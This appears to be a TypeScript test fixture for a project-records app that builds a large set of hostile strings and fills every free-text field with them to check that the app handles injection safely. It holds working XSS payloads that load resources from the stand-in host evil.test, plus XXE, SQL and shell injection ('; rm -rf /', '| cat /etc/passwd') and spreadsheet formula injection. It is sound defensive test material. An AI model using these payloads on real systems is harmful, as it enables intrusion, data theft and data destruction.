/**
 * Texts made to harm whoever shows them, after the usual lists (OWASP, the « naughty strings »), and
 * projects that hold them in every field where a person may write. A script that runs calls `hit`.
 */
import { type Project, projectSchema } from '../../src/domain/project/records.ts'

const RUN = `hit()`
const AWAY = 'https://evil.test'

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe srcdoc=x',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'object data=x',
  'embed src=x',
  'marquee',
  'math',
  'style',
  'form',
  'button autofocus',
  'a href=x',
  'select autofocus',
  'textarea autofocus',
]
const HANDLERS = ['onload', 'onerror', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart']

const MARKUP = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}="${RUN}">`)),
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${AWAY}/x.js></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<script\u0000>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<script>${RUN}`,
  '<plaintext>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<img src=${AWAY}/pixel.png>`,
  `<img srcset="${AWAY}/pixel.png 1x">`,
  `<form action=${AWAY}><input type=submit>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${AWAY}/x.js"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><image href="${AWAY}/pixel.png"/></svg>`,
  `<svg><foreignObject><iframe src="${AWAY}"/></foreignObject></svg>`,
  `<svg><style>@import url(${AWAY}/x.css)</style></svg>`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '＜script＞hit()＜/script＞',
  `" onload="${RUN}`,
  `' onload='${RUN}`,
  `\` onload=\`${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `" style="background:url(${AWAY}/x)`,
  `"/><set attributeName="href" to="javascript:${RUN}"/>`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='${RUN}'>*/`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `${AWAY}/pixel.png`,
  '//evil.test/x.js',
  '\\\\evil.test\\share',
  'file:///etc/passwd',
  'blob:null/x',
]

const STYLES = [
  `}*{background:url(${AWAY}/x)}`,
  `;background-image:url(${AWAY}/x)`,
  `@import '${AWAY}/x.css';`,
  `url("javascript:${RUN}")`,
  `expression(${RUN})`,
  `#x"),url(${AWAY}/x`,
  '</style>',
  `var(--x);behavior:url(${AWAY})`,
]

const TEMPLATES = [
  "{{constructor.constructor('hit()')()}}",
  '{{7*7}}',
  '${hit()}',
  '`${hit()}`',
  '#{hit()}',
  '<%= hit() %>',
  '{%hit()%}',
  '$(hit())',
  '[[${7*7}]]',
  "'+hit()+'",
  '";hit();//',
  "';hit();//",
  '\\";hit();//',
  '*/hit();/*',
  '"}],"x":{"__proto__":{"hit":1}}',
]

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '-0',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON',
  'aux.txt',
  '.htaccess',
  'a/b\\c:d*e?f"g<h>i|j',
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '| cat /etc/passwd',
  '; rm -rf /',
]

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  `=HYPERLINK("${AWAY}","x")`,
  `=IMPORTXML("${AWAY}","//a")`,
  `=WEBSERVICE("${AWAY}")`,
  '%0A=1+1',
]

const CHARACTERS = [
  '\u202eésrever\u202c',
  '\u2066isolé\u2069',
  '\u200f\u200e\u200b\u200d\ufeff',
  'nul \u0000 et \u0007 \u001b[31m',
  '\ud800 moitié',
  'deux\r\nlignes\u2028et\u2029trois',
  `Z\u0351\u036b\u0343${'\u0301'.repeat(60)}`,
  '👩🏽‍🌾🏳️‍🌈🇨🇦',
  'مرحبا <b>שלום</b>',
  '﷽'.repeat(20),
  'ﬀ ǅ ß İ ı',
  'un mot '.repeat(400),
  'x'.repeat(5000),
  '<'.repeat(2000),
]

export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...ADDRESSES,
  ...STYLES,
  ...TEMPLATES,
  ...NAMES,
  ...FORMULAS,
  ...CHARACTERS,
]

/** What fields that are no free text hold, so that the project is sound: the record of that number. */
const REFERENCES: Readonly<Record<string, (number: number) => string>> = {
  rank: (number) => `b${String(number).padStart(3, '0')}1`,
  edtf: (number) => String(1950 + number),
  fromId: (number) => `e${number}`,
  toId: (number) => `f${number}`,
  actorIds: (number) => `a${number}`,
  evidenceIds: (number) => `e${number}`,
  workSessionId: (number) => `w${number}`,
  eventId: (number) => `e${number}`,
  effectId: (number) => `f${number}`,
  subjectId: (number) => `e${number}`,
  outcomeId: (number) => `rt${1 + (number % 12)}`,
  questionId: () => 'q-actors',
  basis: () => '',
}

/** The ids of the records of each table. */
const IDS: Readonly<Record<string, (number: number) => string>> = {
  events: (number) => `e${number}`,
  effects: (number) => `f${number}`,
  links: (number) => `l${number}`,
  actors: (number) => `a${number}`,
  lessons: (number) => `n${number}`,
  actions: (number) => `c${number}`,
  answers: (number) => `q${number}`,
  questions: (number) => `k${number}`,
  ratings: (number) => `g${number}`,
  maturityStages: (number) => `s${number}`,
  obstacles: (number) => `o${number}`,
  resources: (number) => `r${number}`,
  workSessions: (number) => `w${number}`,
  outcomes: (number) => `rt${1 + number}`,
  accounts: (number) => `f${number}`,
  reportParts: (number) => `p${number}`,
  places: (number) => `e${number}`,
}

/** A part of the schema, as the validator describes it. */
type Part = {
  readonly type: string
  readonly pipe?: unknown
  readonly entries?: Readonly<Record<string, Part>>
  readonly item?: Part
  readonly wrapped?: Part
  readonly options?: readonly unknown[]
}

/** A value that fits a part of the schema: the text wherever one may write, one item in every list. */
function filled(part: Part, name: string, text: string, number: number): unknown {
  switch (part.type) {
    case 'strict_object':
      return Object.fromEntries(
        Object.entries(part.entries ?? {}).map(([key, each]) => [
          key,
          filled(each, key, text, number),
        ]),
      )
    case 'array':
      return [filled(part.item as Part, name, text, number)]
    case 'nullable':
      return filled(part.wrapped as Part, name, text, number)
    case 'picklist':
      return part.options?.[0]
    case 'boolean':
      return false
    case 'number':
      return 1 + (number % 9)
    default:
      return part.pipe === undefined ? text : REFERENCES[name]?.(number)
  }
}

/** A project with so many records of each kind, each with one of the texts in every field. */
export function hostileProject(texts: readonly string[]): Project {
  const tables = Object.entries(IDS).map(([table, idOf]) => {
    const { value } = Reflect.get(projectSchema.entries, table) as { value: Part }
    const some = table === 'outcomes' ? texts.slice(0, 12) : texts
    const records = some.map((text, number) => {
      const record = filled(value, table, text, number) as object
      return [idOf(number), { ...record, id: idOf(number) }] as const
    })
    return [table, Object.fromEntries(records)] as const
  })
  const info = filled(projectSchema.entries.info, 'info', texts[0] ?? '', 0)
  return { id: 'p', info, ...Object.fromEntries(tables) } as unknown as Project
}
